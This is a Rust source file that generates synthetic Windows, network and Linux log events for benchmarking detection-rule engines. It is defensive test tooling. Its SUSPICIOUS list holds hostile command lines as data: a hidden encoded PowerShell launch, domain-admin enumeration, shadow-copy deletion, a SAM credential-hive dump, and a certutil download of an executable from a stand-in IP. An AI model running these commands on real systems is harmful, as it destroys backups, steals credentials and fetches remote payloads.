//! Events made up for measuring, the same in every run: each lane is a mix that engines find easy or hard in its own way.

use serde_json::{Value, json};

/// Events of a lane.
const N_EVENTS: u64 = 2_000;

/// Programs that run on every machine; hardly a rule is about them.
const ORDINARY: [&str; 8] = [
    r"C:\Windows\System32\svchost.exe",
    r"C:\Windows\explorer.exe",
    r"C:\Program Files\Google\Chrome\Application\chrome.exe",
    r"C:\Windows\System32\conhost.exe",
    r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE",
    r"C:\Windows\System32\taskhostw.exe",
    r"C:\Program Files\Backup\agent.exe",
    r"C:\Windows\System32\backgroundTaskHost.exe",
];

/// Command lines that several rules are about.
const SUSPICIOUS: [&str; 5] = [
    "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
    "cmd.exe /c whoami /all & net group \"Domain Admins\" /domain",
    "vssadmin.exe delete shadows /all /quiet",
    "reg.exe save HKLM\\SAM C:\\Temp\\sam.hiv",
    "certutil.exe -urlcache -split -f http://198.51.100.7/a.exe C:\\Users\\Public\\a.exe",
];

const WORDS: [&str; 12] = [
    "request", "finished", "cache", "worker", "queue", "session", "update", "index", "retry",
    "flush", "mount", "lease",
];

/// Makes the events of a lane: `windows`, `network`, `raw`, `mixed`, `none` or `many`.
pub fn events(lane: &str) -> Option<Vec<Vec<u8>>> {
    let event = match lane {
        "windows" => windows,
        "network" => network,
        "raw" => raw,
        "mixed" => mixed,
        "none" => none,
        "many" => many,
        _ => return None,
    };
    let mut chance = Chance(1);
    Some((0..N_EVENTS).map(|_| event(&mut chance).to_string().into_bytes()).collect())
}

/// A linear congruential generator: enough for numbers in logs.
struct Chance(u64);

impl Chance {
    fn below(&mut self, n: u64) -> u64 {
        self.0 =
            self.0.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        (self.0 >> 33) % n
    }

    fn pick<'a>(&mut self, from: &[&'a str]) -> &'a str {
        let index = self.below(from.len() as u64);
        usize::try_from(index).ok().and_then(|index| from.get(index)).copied().unwrap_or_default()
    }

    fn words(&mut self, n: u64) -> String {
        let words: Vec<String> = (0..n)
            .map(|_| match self.below(4) {
                0 => self.below(100_000).to_string(),
                _ => self.pick(&WORDS).to_owned(),
            })
            .collect();
        words.join(" ")
    }
}

/// What a workstation with Sysmon says on an ordinary day; one in fifty is suspicious.
fn windows(chance: &mut Chance) -> Value {
    let sysmon = "Microsoft-Windows-Sysmon/Operational";
    let provider = "Microsoft-Windows-Sysmon";
    let (image, computer) =
        (chance.pick(&ORDINARY), format!("pc{}.corp.example", chance.below(200)));
    let user = format!("CORP\\u{}", chance.below(500));
    match chance.below(5) {
        0 => {
            json!({"Channel": "Security", "Provider_Name": "Microsoft-Windows-Security-Auditing", "EventID": 4624,
            "Computer": computer, "TargetUserName": user, "LogonType": 3, "IpAddress": format!("10.0.0.{}", chance.below(250)),
            "AuthenticationPackageName": "Kerberos", "LogonProcessName": "Kerberos", "WorkstationName": "-",
            "product": "windows", "service": "security"})
        }
        1 => {
            json!({"Channel": sysmon, "Provider_Name": provider, "EventID": 3, "Computer": computer, "User": user, "Image": image,
            "Initiated": "true", "Protocol": "tcp", "DestinationIp": format!("203.0.113.{}", chance.below(250)),
            "DestinationPort": 443, "SourcePort": chance.below(60_000), "DestinationHostname": "cdn.example.net",
            "product": "windows", "category": "network_connection", "service": "sysmon"})
        }
        2 => {
            json!({"Channel": sysmon, "Provider_Name": provider, "EventID": 7, "Computer": computer, "User": user, "Image": image,
            "ImageLoaded": format!("C:\\Windows\\System32\\{}.dll", chance.pick(&WORDS)), "Signed": "true",
            "Signature": "Microsoft Windows", "SignatureStatus": "Valid", "Description": chance.words(4),
            "product": "windows", "category": "image_load", "service": "sysmon"})
        }
        3 => {
            json!({"Channel": sysmon, "Provider_Name": provider, "EventID": 13, "Computer": computer, "User": user, "Image": image,
            "EventType": "SetValue", "TargetObject": format!("HKLM\\SOFTWARE\\Vendor\\{}\\{}", chance.pick(&WORDS), chance.below(90)),
            "Details": format!("DWORD (0x{:08x})", chance.below(1 << 30)),
            "product": "windows", "category": "registry_set", "service": "sysmon"})
        }
        _ => {
            let line = match chance.below(10) {
                0 => chance.pick(&SUSPICIOUS).to_owned(),
                _ => format!("\"{image}\" --{}={}", chance.pick(&WORDS), chance.below(1_000)),
            };
            process(image, &line, &computer, &user)
        }
    }
}

fn process(image: &str, line: &str, computer: &str, user: &str) -> Value {
    json!({"Channel": "Microsoft-Windows-Sysmon/Operational", "Provider_Name": "Microsoft-Windows-Sysmon", "EventID": 1,
        "Computer": computer, "User": user, "Image": image, "CommandLine": line, "ParentImage": "C:\\Windows\\explorer.exe",
        "ParentCommandLine": "C:\\Windows\\explorer.exe", "CurrentDirectory": "C:\\Users\\u\\", "IntegrityLevel": "Medium",
        "Company": "Microsoft Corporation", "Product": "Microsoft Windows", "FileVersion": "10.0.19041.1", "OriginalFileName": "-",
        "Hashes": "SHA256=9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08",
        "product": "windows", "category": "process_creation", "service": "sysmon"})
}

/// Firewalls, resolvers and proxies.
fn network(chance: &mut Chance) -> Value {
    let inside = format!("10.0.{}.{}", chance.below(8), chance.below(250));
    match chance.below(3) {
        0 => {
            json!({"src_ip": inside, "dst_ip": format!("203.0.113.{}", chance.below(250)), "src_port": chance.below(60_000),
            "dst_port": 443, "action": "allow", "product": "any", "category": "firewall"})
        }
        1 => {
            json!({"query": format!("{}{}.example.org", chance.pick(&WORDS), chance.below(900)), "record_type": "A",
            "answer": "203.0.113.5", "src_ip": inside, "category": "dns"})
        }
        _ => {
            json!({"c-ip": inside, "c-uri": format!("https://{}.example.com/{}/{}.js", chance.pick(&WORDS), chance.pick(&WORDS), chance.below(9_999)),
            "c-useragent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/130.0 Safari/537.36",
            "cs-method": "GET", "sc-status": 200, "cs-host": "www.example.com", "category": "proxy"})
        }
    }
}

/// Lines of text that nobody has taken apart: keywords have to look everywhere.
fn raw(chance: &mut Chance) -> Value {
    let host = format!("web{}", chance.below(20));
    json!({"host": host, "program": "sshd", "message": chance.words(150), "product": "linux", "service": "sshd"})
}

fn mixed(chance: &mut Chance) -> Value {
    match chance.below(10) {
        0..=4 => windows(chance),
        5..=7 => network(chance),
        8 => raw(chance),
        _ => none(chance),
    }
}

/// Events of a program that no rule knows.
fn none(chance: &mut Chance) -> Value {
    json!({"at": chance.below(1 << 40), "unit": chance.pick(&WORDS), "took_ms": chance.below(900), "note": chance.words(12),
        "inner": {"attempt": chance.below(5), "list": [chance.below(9), chance.below(9)]}})
}

/// An attack in full swing.
fn many(chance: &mut Chance) -> Value {
    let line = chance.pick(&SUSPICIOUS);
    let program = line.split(' ').next().unwrap_or_default();
    process(&format!("C:\\Windows\\System32\\{program}"), line, "pc1.corp.example", "CORP\\eve")
}
